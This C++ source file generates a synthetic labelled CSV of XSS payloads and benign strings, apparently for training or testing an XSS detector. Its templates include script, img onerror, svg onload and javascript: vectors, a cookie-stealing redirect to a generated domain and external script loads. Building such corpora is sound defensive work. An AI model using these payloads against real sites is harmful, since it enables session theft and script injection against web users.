// Synthetic payload corpus with the column layout of the public XSS payload
// CSV ("Payloads,Class"). Malicious rows mimic scraped XSS vectors (URL-wrapped
// parameters, context breakers, event handlers, script blocks, encodings);
// benign rows mimic crawled parameter values and page text. A small share of
// rows is deliberately mislabelled or duplicated, as in scraped corpora.

#include <array>
#include <cctype>
#include <string>
#include <vector>

#include "xsslab/corpus.hpp"
#include "xsslab/rng.hpp"
#include "xsslab/text.hpp"

namespace xsslab::corpus {
namespace {

constexpr std::array kCommonWords = std::to_array<std::string_view>({
    "the", "of", "and", "to", "in", "for", "is", "on", "that", "by", "this", "with", "you", "it", "not", "or",
    "be", "are", "from", "at", "as", "your", "all", "have", "new", "more", "an", "was", "we", "will", "home",
    "can", "us", "about", "if", "page", "my", "has", "search", "free", "but", "our", "one", "other", "do",
    "no", "information", "time", "they", "site", "he", "up", "may", "what", "which", "their", "news", "out",
    "use", "any", "there", "see", "only", "so", "his", "when", "contact", "here", "business", "who", "web",
    "also", "now", "help", "get", "view", "online", "first", "been", "would", "how", "were", "me", "services",
    "some", "these", "click", "its", "like", "service", "than", "find", "price", "date", "back", "top",
    "people", "had", "list", "name", "just", "over", "state", "year", "day", "into", "email", "two", "health",
    "world", "next", "used", "go", "work", "last", "most", "products", "music", "buy", "data", "make", "them",
    "should", "product", "system", "post", "her", "city", "add", "policy", "number", "such", "please",
    "available", "copyright", "support", "message", "after", "best", "software", "then", "jan", "good",
    "video", "well", "where", "info", "rights", "public", "books", "high", "school", "through", "each",
    "links", "she", "review", "years", "order", "very", "privacy", "book", "items", "company", "read",
    "group", "need", "many", "user", "said", "does", "set", "under", "general", "research", "university",
    "january", "mail", "full", "map", "reviews", "program", "life", "know", "games", "way", "days",
    "management", "part", "could", "great", "united", "hotel", "real", "item", "international", "center",
    "ebay", "must", "store", "travel", "comments", "made", "development", "report", "off", "member",
    "details", "line", "terms", "before", "hotels", "did", "send", "right", "type", "because", "local",
    "those", "using", "results", "office", "education", "national", "car", "design", "take", "posted",
    "internet", "address", "community", "within", "states", "area", "want", "phone", "shipping", "reserved",
    "subject", "between", "forum", "family", "long", "based", "code", "show", "even", "black", "check",
    "special", "prices", "website", "index", "being", "women", "much", "sign", "file", "link", "open",
    "today", "technology", "south", "case", "project", "same", "pages", "uk", "version", "section", "own",
    "found", "sports", "house", "related", "security", "both", "county", "american", "photo", "game",
    "members", "power", "while", "care", "network", "down", "computer", "systems", "three", "total", "place",
    "end", "following", "download", "him", "without", "per", "access", "think", "north", "resources",
    "current", "posts", "big", "media", "law", "control", "water", "history", "pictures", "size", "art",
    "personal", "since", "including", "guide", "shop", "directory", "board", "location", "change", "white",
    "text", "small", "rating", "rate", "government", "children", "during", "usa", "return", "students",
    "shopping", "account", "times", "sites", "level", "digital", "profile", "previous", "form", "events",
    "love", "old", "john", "main", "call", "hours", "image", "department", "title", "description",
});

constexpr std::array kSyllables = std::to_array<std::string_view>({
    "ka", "lo", "mi", "ra", "ten", "vor", "sil", "pra", "dun", "el", "qua", "zor", "bin", "tek", "ma",
    "nov", "ri", "sta", "gal", "pe", "dor", "fin", "ux", "lan", "ci", "mo", "ver", "ta", "bel", "so",
    "kin", "har", "ne", "pol", "wi", "gra", "tor", "ly", "sen", "va", "ob", "rel", "cu", "din", "ax",
});

constexpr std::array kTlds = std::to_array<std::string_view>({"com", "net", "org", "info", "co.uk", "de", "ru", "edu"});
constexpr std::array kExts = std::to_array<std::string_view>({"php", "asp", "aspx", "jsp", "html", "cgi", "do"});
constexpr std::array kParams = std::to_array<std::string_view>({
    "q", "search", "query", "id", "s", "keyword", "page", "name", "term", "cat", "lang", "msg", "url",
    "redirect", "returnurl", "title", "user", "text", "item", "pid", "sid", "ref", "type", "k", "p",
});

std::string pseudo_word(Rng& rng) {
  std::string w;
  const std::size_t n = 2 + rng.index(3);
  for (std::size_t i = 0; i < n; ++i) w += rng.pick(kSyllables);
  return w;
}

std::string word(Rng& rng) { return rng.chance(0.7) ? std::string(rng.pick(kCommonWords)) : pseudo_word(rng); }

// Crawled corpora revisit the same sites and scripts, so names come from
// finite pools: draw a pool slot, then build the name from that slot's seed.
template <typename Make>
std::string pooled(Rng& rng, std::size_t pool_size, std::uint64_t salt, Make make) {
  Rng slot(salt * 0x9e3779b97f4a7c15ULL + rng.index(pool_size));
  return make(slot);
}

std::string identifier(Rng& rng) {
  return pooled(rng, 120, 1, [](Rng& r) {
    std::string w = pseudo_word(r);
    if (r.chance(0.4)) w += std::to_string(r.index(100));
    return w;
  });
}

std::string domain(Rng& rng) {
  return pooled(rng, 160, 2, [](Rng& r) {
    std::string d = r.chance(0.5) ? "www." : "";
    d += r.chance(0.5) ? std::string(r.pick(kCommonWords)) + pseudo_word(r) : pseudo_word(r);
    return d + "." + std::string(r.pick(kTlds));
  });
}

std::string page_name(Rng& rng) {
  return pooled(rng, 200, 3, [](Rng& r) { return pseudo_word(r); });
}

std::string url_prefix(Rng& rng) {
  std::string u = "http://" + domain(rng) + "/";
  if (rng.chance(0.5)) u += word(rng) + "/";
  u += page_name(rng) + "." + std::string(rng.pick(kExts)) + "?";
  if (rng.chance(0.3)) u += std::string(rng.pick(kParams)) + "=" + std::to_string(rng.index(1000)) + "&";
  u += (rng.chance(0.6) ? std::string(rng.pick(kParams)) : identifier(rng)) + "=";
  return u;
}

std::string call_argument(Rng& rng) {
  switch (rng.index(12)) {
    case 0: case 1: case 2: return "1";
    case 3: return "document.cookie";
    case 4: return "'XSS'";
    case 5: return "\"XSS\"";
    case 6: return "/XSS/";
    case 7: return "String.fromCharCode(88,83,83)";
    case 8: return "document.domain";
    case 9: return std::to_string(rng.index(40) * 1337 % 100000);
    case 10: return "'" + identifier(rng) + "'";
    default: return "0";
  }
}

std::string js_code(Rng& rng) {
  const std::string arg = call_argument(rng);
  switch (rng.index(14)) {
    case 0: case 1: case 2: case 3: case 4: case 5: return "alert(" + arg + ")";
    case 6: return "prompt(" + arg + ")";
    case 7: return "confirm(" + arg + ")";
    case 8: return "eval('alert(" + std::to_string(rng.index(10)) + ")')";
    case 9: return "document.write(" + arg + ")";
    case 10: return "document.location='http://" + domain(rng) + "/?c='+document.cookie";
    case 11: return "window.open('http://" + domain(rng) + "/" + page_name(rng) + "')";
    case 12: return "console.log(" + arg + ")";
    default: return "alert(" + arg + ");" + identifier(rng) + "()";
  }
}

std::string tag_case(Rng& rng, std::string_view name) {
  std::string out(name);
  const std::size_t roll = rng.index(10);
  const std::size_t stride = roll < 2 ? 1 : (roll == 2 ? 2 : 0);
  for (std::size_t i = 0; stride > 0 && i < out.size(); i += stride) {
    out[i] = static_cast<char>(std::toupper(static_cast<unsigned char>(out[i])));
  }
  return out;
}

std::string quoted(Rng& rng, const std::string& v) {
  switch (rng.index(3)) {
    case 0: return "\"" + v + "\"";
    case 1: return "'" + v + "'";
    default: return v;
  }
}

std::string vector_payload(Rng& rng) {
  const std::string code = js_code(rng);
  const std::string t = word(rng);
  switch (rng.index(24)) {
    case 0: case 1: case 2: case 3: case 4: case 5:
      return "<" + tag_case(rng, "script") + ">" + code + "</" + tag_case(rng, "script") + ">";
    case 6: return "<script src=" + quoted(rng, "http://" + domain(rng) + "/" + page_name(rng) + ".js") + "></script>";
    case 7: case 8: case 9:
      return "<" + tag_case(rng, "img") + " src=" + quoted(rng, rng.chance(0.5) ? "x" : pseudo_word(rng) + ".jpg") + " " +
             tag_case(rng, "onerror") + "=" + quoted(rng, code) + ">";
    case 10: return "<" + tag_case(rng, "img") + " src=" + quoted(rng, "javascript:" + code) + ">";
    case 11: return "<" + tag_case(rng, "body") + " " + tag_case(rng, "onload") + "=" + quoted(rng, code) + ">";
    case 12: return "<svg" + std::string(rng.chance(0.5) ? "/" : " ") + "onload=" + quoted(rng, code) + ">";
    case 13: return "<" + tag_case(rng, "iframe") + " src=" + quoted(rng, "javascript:" + code) + "></iframe>";
    case 14: return "<a href=" + quoted(rng, "javascript:" + code) + ">" + t + "</a>";
    case 15: return "<div onmouseover=" + quoted(rng, code) + ">" + t + "</div>";
    case 16: return "<input type=\"text\" onfocus=" + quoted(rng, code) + " autofocus>";
    case 17: return "<marquee onstart=" + quoted(rng, code) + ">" + t + "</marquee>";
    case 18: return "<details open ontoggle=" + quoted(rng, code) + ">";
    case 19: return "<object data=\"data:text/html,<script>" + code + "</script>\"></object>";
    case 20: return "<video><source onerror=" + quoted(rng, code) + "></video>";
    case 21: return "<" + tag_case(rng, "table") + " background=" + quoted(rng, "javascript:" + code) + ">";
    case 22: return "<b onmouseover=" + quoted(rng, code) + ">" + t + "</b>";
    default: return "<" + tag_case(rng, "style") + ">@import'javascript:" + code + "';</style>";
  }
}

std::string malicious_row(Rng& rng) {
  static constexpr std::array kBreakers = std::to_array<std::string_view>(
      {"", "", "", "", "\">", "'>", "\"/>", "</title>", "</textarea>", "-->", "'\">", "</script>", "\"><br>", ">"});
  std::string p = std::string(rng.pick(kBreakers)) + vector_payload(rng);
  if (rng.chance(0.15)) p += vector_payload(rng);
  if (rng.chance(0.2)) p = word(rng) + " " + p;
  if (rng.chance(0.35)) p = url_prefix(rng) + p;
  if (rng.chance(0.25)) p += "&" + std::string(rng.pick(kParams)) + "=" + word(rng);
  return p;
}

std::string percent_encode_markup(std::string_view s) {
  std::string out;
  for (char c : s) {
    switch (c) {
      case '<': out += "%3C"; break;
      case '>': out += "%3E"; break;
      case '"': out += "%22"; break;
      case ' ': out += "%20"; break;
      default: out += c;
    }
  }
  return out;
}

std::string benign_row(Rng& rng) {
  auto words = [&](std::size_t lo, std::size_t hi) {
    std::string s;
    const std::size_t n = lo + rng.index(hi - lo + 1);
    for (std::size_t i = 0; i < n; ++i) s += (i ? " " : "") + word(rng);
    return s;
  };
  switch (rng.index(16)) {
    case 0: case 1: case 2: case 3: return words(1, 6);
    case 4: return words(1, 3) + " " + std::to_string(rng.index(3000));
    case 5: {
      std::string q;
      const std::size_t n = 1 + rng.index(3);
      for (std::size_t i = 0; i < n; ++i) {
        q += (i ? "&" : "") + (rng.chance(0.6) ? std::string(rng.pick(kParams)) : identifier(rng)) + "=" +
             (rng.chance(0.5) ? word(rng) : std::to_string(rng.index(10000)));
      }
      return q;
    }
    case 6: return "http://" + domain(rng) + "/" + word(rng) + (rng.chance(0.5) ? "/" + pseudo_word(rng) + ".html" : "");
    case 7: return url_prefix(rng) + word(rng);
    case 8: return words(2, 5) + " (" + words(1, 2) + ")";
    case 9: return words(1, 3) + " '" + word(rng) + "' " + words(0, 2);
    case 10: return words(1, 3) + " \"" + word(rng) + "\"";
    case 11: return identifier(rng) + "@" + domain(rng);
    case 12: return word(rng) + "(" + word(rng) + ")";
    case 13: return words(1, 3) + " & " + words(1, 3);
    case 14: return std::to_string(rng.index(28) + 1) + "/" + std::to_string(rng.index(12) + 1) + "/20" +
                    std::to_string(10 + rng.index(15)) + " " + words(0, 3);
    default: return words(3, 8) + ".";
  }
}

}  // namespace

std::string synthesize_csv(const SynthConfig& config) {
  Rng rng(config.seed);
  struct Row {
    std::string text;
    bool malicious;
  };
  std::vector<Row> rows;
  rows.reserve(config.benign + config.malicious);
  for (std::size_t i = 0; i < config.malicious; ++i) {
    std::string p = malicious_row(rng);
    // Fully URL-encoded submissions render as inert text: labelled Malicious,
    // rejected by the oracle prefilter.
    if (rng.chance(0.06)) p = percent_encode_markup(p);
    rows.push_back({std::move(p), true});
  }
  for (std::size_t i = 0; i < config.benign; ++i) {
    std::string p = benign_row(rng);
    // Scraped page text occasionally keeps formatting markup.
    if (rng.chance(0.03)) p = "<b>" + p + "</b>";
    rows.push_back({std::move(p), false});
  }
  rng.shuffle(rows);
  // Scraped corpora carry repeats.
  const std::size_t dupes = rows.size() / 50;
  for (std::size_t i = 0; i < dupes; ++i) rows.push_back(rows[rng.index(rows.size())]);

  std::string csv = "Payloads,Class\n";
  for (const auto& r : rows) csv += csv_escape(r.text) + "," + (r.malicious ? "Malicious" : "Benign") + "\n";
  return csv;
}

}  // namespace xsslab::corpus
